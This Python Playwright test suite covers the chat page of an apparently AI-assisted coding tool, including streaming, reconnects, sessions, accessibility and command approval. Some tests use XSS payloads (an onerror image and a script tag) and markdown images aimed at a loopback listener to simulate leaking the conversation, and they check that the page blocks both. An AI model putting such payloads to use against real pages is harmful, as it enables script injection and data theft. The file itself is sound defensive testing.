"""The chat page in a real browser: Playwright drives Debian's Chromium against a real
`seam serve` subprocess whose model is the scripted loopback OpenAI server (the fixtures
and helpers: `page_support.py`)."""

from __future__ import annotations

import contextlib
import json
import socket
from pathlib import Path

from tests.support.openai_server import OpenAIServer, text_reply, tool_call_reply
from tests.web.page_support import *  # noqa: F403  (the fixtures: `browser`, `pages`, …)
from tests.web.page_support import (
    PHONE,
    CuttableProxy,
    LoopbackListener,
    Pages,
    Served,
    answers,
    keep_shot,
    log_text,
    screenshots_on_failure,
    send,
    settled,
    sync_api,
    watch_status,
)

ANSWER = (
    "Here is **the plan**:\n\n1. read the file\n2. print it\n\n"
    "```python\nprint(open('notes.txt').read())\n```\n\nThat is all."
)


@screenshots_on_failure
def test_a_message_streams_in_as_markdown_with_a_code_block(
    pages: Pages, model: OpenAIServer
) -> None:
    # Held after the first pieces: the page must show text before the answer is complete.
    model.push(text_reply(ANSWER, chunk_size=4).stalled(after=6))
    page = pages.open()
    send(page, "show me the notes")

    page.locator("#log .msg.user", has_text="show me the notes").wait_for()
    streaming = page.locator("#log .msg.assistant.live")
    streaming.locator(".body", has_text="Here is").wait_for()
    assert "That is all." not in log_text(page)
    model.release()

    answer = answers(page).last
    answer.locator("strong", has_text="the plan").wait_for()
    answer.locator("pre code", has_text="print(open('notes.txt').read())").wait_for()
    answer.locator("ol li", has_text="read the file").wait_for()
    settled(page)
    assert log_text(page).count("That is all.") == 1
    # The session is listed (titled), its usage is shown, and it is the URL's session.
    current = page.locator("#sessions button.session[aria-current=true]")
    current.filter(has_text="show me the notes").wait_for()
    page.locator("#usage", has_text=" in · ").wait_for()
    assert page.evaluate("location.hash").startswith("#")
    keep_shot(page, "desktop-answer")


@screenshots_on_failure
def test_an_answer_never_runs_script_from_its_markdown(pages: Pages, model: OpenAIServer) -> None:
    model.push(
        text_reply(
            'Look: <img src=x onerror="window.pwned=1"> <script>window.pwned=2</script> done'
        )
    )
    page = pages.open()
    send(page, "try to break the page")
    answers(page).last.locator(".body", has_text="done").wait_for()
    settled(page)
    assert page.evaluate("window.pwned === undefined")
    assert page.locator("#log script").count() == 0


class Listener(LoopbackListener):
    """A loopback TCP listener that records every connection made to it (a remote host an
    answer's image might name); it never answers."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        super().__init__()

    def handle(self, conn: socket.socket) -> None:
        with conn:
            conn.settimeout(2)
            with contextlib.suppress(OSError):
                self.seen.append(conn.recv(4096) or b"(connected)")


@screenshots_on_failure
def test_an_answers_remote_image_is_a_link_and_never_loaded(
    pages: Pages, model: OpenAIServer
) -> None:
    listener = Listener()
    try:
        leak = f"{listener.url}/?d=the-conversation"
        model.push(
            text_reply(
                f'Here: ![chart]({leak}) and <img src="{listener.url}/raw.png"> and '
                '<img srcset="{0}/set.png 2x"> and ![dot](data:image/gif;base64,'
                "R0lGODlhAQABAAAAACw=) done".replace("{0}", listener.url)
            )
        )
        page = pages.open()
        headers = pages.signed_in.login_headers
        page_headers = page.request.get(pages.served.url + "/").headers
        for seen in (headers, page_headers):
            policy = seen["content-security-policy"]
            assert "img-src 'self' data:" in policy and "connect-src 'self'" in policy
            assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
            assert seen["x-content-type-options"] == "nosniff"
            assert seen["referrer-policy"] == "no-referrer"
        send(page, "show me a chart")
        answer = answers(page).last.locator(".body", has_text="done")
        answer.wait_for()
        settled(page)
        link = answers(page).last.locator("a.image-link", has_text="chart")
        assert link.get_attribute("href") == leak
        assert answers(page).last.locator("a.image-link").count() == 3
        assert answers(page).last.locator(f"img[src^='{listener.url}']").count() == 0
        assert pages.signed_in.search == ""  # the token left the address bar
        assert page.evaluate("location.search") == ""
        page.reload()
        page.locator("body[data-ready=true]").wait_for()
        answers(page).last.locator(".body", has_text="done").wait_for()
        assert listener.seen == []
    finally:
        listener.close()


def script_delete(model: OpenAIServer, after: str) -> None:
    command = json.dumps({"command": "rm -r build"})
    model.push(tool_call_reply([("terminal", command)]), text_reply(after))


def make_build_dir(project: Path) -> Path:
    target = project / "build" / "obj"
    target.mkdir(parents=True)
    (target / "a.o").write_text("x")
    return project / "build"


@screenshots_on_failure
def test_a_command_is_approved_then_denied_from_the_page(
    pages: Pages, served: Served, model: OpenAIServer
) -> None:
    build = make_build_dir(served.project)
    page = pages.open()

    script_delete(model, "Removed it.")
    send(page, "remove the build directory")
    tool = page.locator("#log details.tool", has_text="terminal")
    tool.locator(".question", has_text="rm -r build").wait_for()
    # Shown once, not also as stored (the history is trimmed at the turn's `run_start`).
    sync_api.expect(page.locator("#log details.tool")).to_have_count(1)
    buttons = tool.locator(".decisions button")
    assert buttons.all_inner_texts() == [
        "Allow once",
        "Allow for this session",
        "Always allow",
        "Deny",
        "Never allow",
    ]
    keep_shot(page, "desktop-approval")
    # Keyboard only: Tab reaches the buttons, Enter presses the focused one.
    tool.locator("button[data-decision=once]").focus()
    page.keyboard.press("Enter")
    answers(page).last.locator(".body", has_text="Removed it.").wait_for()
    settled(page)
    assert not build.exists()

    build = make_build_dir(served.project)
    script_delete(model, "Left it alone.")
    send(page, "remove the build directory again")
    waiting = page.locator("#log .msg.assistant.live details.tool .decisions")
    waiting.wait_for()
    waiting.locator("button[data-decision=deny]").click()
    answers(page).last.locator(".body", has_text="Left it alone.").wait_for()
    settled(page)
    assert (build / "obj" / "a.o").exists()
    refused = [m for m in model.chat_requests[-1].body["messages"] if m["role"] == "tool"]
    assert refused[-1]["content"].startswith("error:")
    # Reopened, the stored session shows both calls, collapsed, with their outcomes.
    page.reload()
    page.locator("body[data-ready=true]").wait_for()
    stored = page.locator("#log #history details.tool")
    stored.nth(1).wait_for()
    settled(page)
    assert stored.count() == 2
    assert "Removed it." in log_text(page) and "Left it alone." in log_text(page)
    keep_shot(page, "desktop-history")


LONG = " ".join(f"word{n}" for n in range(60)) + " THE END."


@screenshots_on_failure
def test_a_reload_mid_answer_shows_the_answer_once_and_complete(
    pages: Pages, model: OpenAIServer
) -> None:
    model.push(text_reply(LONG, chunk_size=6).stalled(after=8))
    page = pages.open()
    send(page, "count for me")
    page.locator("#log .msg.assistant.live .body", has_text="word1").wait_for()

    page.reload()
    page.locator("body[data-ready=true]").wait_for()
    page.locator("#log .msg.assistant.live .body", has_text="word1").wait_for()
    assert log_text(page).count("word1 ") == 1
    assert page.locator("#log .msg.user", has_text="count for me").count() == 1
    # A second tab opened on the session now shows the same, once, and follows it too.
    other = pages.open()
    other.goto(page.url)
    other.locator("#log .msg.assistant.live .body", has_text="word1").wait_for()
    model.release()

    page.locator("#log .msg.assistant .body", has_text="THE END.").wait_for()
    settled(page)
    text = log_text(page)
    assert text.count("word0 ") == 1 and text.count("word59") == 1
    assert text.count("THE END.") == 1
    assert page.locator("#log .msg.user", has_text="count for me").count() == 1
    other.locator("#log .msg.assistant .body", has_text="THE END.").wait_for()
    settled(other)
    assert log_text(other) == text


@screenshots_on_failure
def test_a_dropped_connection_resumes_without_repeating_text(
    pages: Pages, served: Served, model: OpenAIServer
) -> None:
    model.push(text_reply(LONG, chunk_size=6).stalled(after=8))
    proxy = CuttableProxy(served.url)
    try:
        page = pages.open(via=proxy.url)
        send(page, "count again")
        page.locator("#log .msg.assistant.live .body", has_text="word1").wait_for()
        # The connection drops mid-answer; the browser reconnects with Last-Event-ID. The
        # page says so for as long as that takes (a second, or less), so the test reads
        # what the status line showed, not what it shows when it looks.
        watch_status(page)
        proxy.cut()
        page.wait_for_function("() => window.seamStatuses.some((s) => s.includes('reconnecting'))")
        model.release()  # the answer goes on while the page is cut off
        page.wait_for_function("() => window.seamStatuses.includes('Reconnected.')")
        page.locator("#log .msg.assistant .body", has_text="THE END.").wait_for()
        settled(page)
        text = log_text(page)
        assert text.count("word0 ") == 1 and text.count("THE END.") == 1
        assert page.locator("#log .msg.user", has_text="count again").count() == 1
    finally:
        proxy.close()


@screenshots_on_failure
def test_switching_personality_sends_the_next_message_to_it(
    pages: Pages, model: OpenAIServer
) -> None:
    model.push(text_reply("Hello there."), text_reply("Arr, matey."))
    page = pages.open()
    send(page, "hello")
    answers(page).last.locator(".body", has_text="Hello there.").wait_for()
    assert "pirate" not in json.dumps(model.chat_requests[0].body["messages"][0])

    page.locator("#personality").select_option("pirate")
    send(page, "hello again")
    answers(page).last.locator(".body", has_text="Arr, matey.").wait_for()
    system = model.chat_requests[1].body["messages"][0]
    assert system["role"] == "system" and "pirate" in system["content"]
    # The session keeps it: reopened, the switch shows the session's personality.
    page.reload()
    page.locator("body[data-ready=true]").wait_for()
    page.wait_for_function("() => document.getElementById('personality').value === 'pirate'")


@screenshots_on_failure
def test_earlier_turns_stay_as_they_are_while_the_conversation_goes_on(
    pages: Pages, served: Served, model: OpenAIServer
) -> None:
    """The history is read again at each turn's start and end; the turns it held already
    are not drawn again: a tool block opened to read it stays open, and the answers'
    nodes are the same ones (a long session drew every answer twice a turn)."""
    (served.project / "notes.txt").write_text("buy milk\n")
    model.push(
        tool_call_reply([("read_file", json.dumps({"path": "notes.txt"}))]),
        text_reply("It says to buy milk."),
    )
    page = pages.open()
    send(page, "what do my notes say?")
    answers(page).last.locator(".body", has_text="buy milk").wait_for()
    settled(page)
    block = page.locator("#history details.tool")
    block.locator("summary").click()
    sync_api.expect(block).to_have_attribute("open", "")
    page.evaluate("() => { document.querySelector('#history .msg.assistant').seamMark = 1; }")

    model.push(text_reply("You are welcome."))
    send(page, "thanks")
    answers(page).last.locator(".body", has_text="You are welcome.").wait_for()
    settled(page)
    sync_api.expect(block).to_have_attribute("open", "")
    assert page.evaluate("() => document.querySelector('#history .msg.assistant').seamMark") == 1
    assert page.locator("#history .msg.assistant").count() == 2


@screenshots_on_failure
def test_sessions_are_searched_and_reopened(pages: Pages, model: OpenAIServer) -> None:
    model.push(text_reply("Apples are red."), text_reply("Bananas are yellow."))
    page = pages.open()
    send(page, "tell me about apples")
    answers(page).last.locator(".body", has_text="Apples are red.").wait_for()
    page.locator("#new-session").click()
    assert page.locator("#log .msg").count() == 0
    send(page, "tell me about bananas")
    answers(page).last.locator(".body", has_text="Bananas are yellow.").wait_for()
    page.locator("#sessions button.session").nth(1).wait_for()

    page.locator("#search").fill("apples")
    listed = page.locator("#sessions button.session")
    listed.filter(has_text="apples").first.wait_for()
    page.wait_for_function(
        "() => document.querySelectorAll('#sessions button.session').length === 1"
    )
    listed.first.click()
    answers(page).last.locator(".body", has_text="Apples are red.").wait_for()
    assert "Bananas" not in log_text(page)

    page.locator("#search").fill("nothing-like-this")
    page.locator("#sessions .empty").wait_for()


@screenshots_on_failure
def test_the_page_works_at_phone_width(pages: Pages, model: OpenAIServer) -> None:
    model.push(text_reply("Small screens too.\n\n```\na long line of code " + "x" * 120 + "\n```"))
    page = pages.open(PHONE)
    send(page, "hello from a phone")
    answers(page).last.locator(".body", has_text="Small screens too.").wait_for()
    settled(page)
    # Nothing is wider than the screen: the code block scrolls inside itself.
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    assert page.locator("#sidebar").is_hidden()
    keep_shot(page, "phone-answer")
    page.locator("#toggle-sessions").click()
    page.locator("#sidebar #sessions button.session").first.wait_for()
    keep_shot(page, "phone-sessions")
    page.keyboard.press("Escape")
    assert page.locator("#sidebar").is_hidden()


@screenshots_on_failure
def test_cancel_stops_a_running_answer(pages: Pages, model: OpenAIServer) -> None:
    model.push(text_reply(LONG, chunk_size=6).stalled(after=8), text_reply("Still here."))
    page = pages.open()
    send(page, "count slowly")
    page.locator("#log .msg.assistant.live .body", has_text="word1").wait_for()
    cancel = page.locator("#cancel")
    assert cancel.is_enabled()
    cancel.click()
    page.locator("#status", has_text="Cancelled.").wait_for()
    settled(page)
    page.wait_for_function("() => document.getElementById('cancel').disabled")
    assert "THE END." not in log_text(page)
    # The session goes on.
    send(page, "are you there?")
    answers(page).last.locator(".body", has_text="Still here.").wait_for()


@screenshots_on_failure
def test_the_keyboard_alone_reaches_everything(pages: Pages, model: OpenAIServer) -> None:
    page = pages.open()
    page.locator("#prompt").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "send"
    # Tab order from the top: skip link, the sections' navigation bar, then the header and
    # the session list (which holds the other tests' sessions too: one more Tab for each).
    listed = page.locator("#sessions button.session").count()
    nav = page.get_by_role("navigation", name="Sections").get_by_role("link")
    nav.last.wait_for()
    listed += nav.count()
    page.locator("body").focus()
    seen = []
    for _ in range(8 + listed):
        page.keyboard.press("Tab")
        seen.append(page.evaluate("document.activeElement.id || document.activeElement.tagName"))
    assert seen.index("personality") < seen.index("new-session") < seen.index("search")
    assert seen.index("search") < seen.index("prompt")
    # Focus is visible: the focused control draws an outline.
    page.locator("#new-session").focus()
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline not in ("", "none")
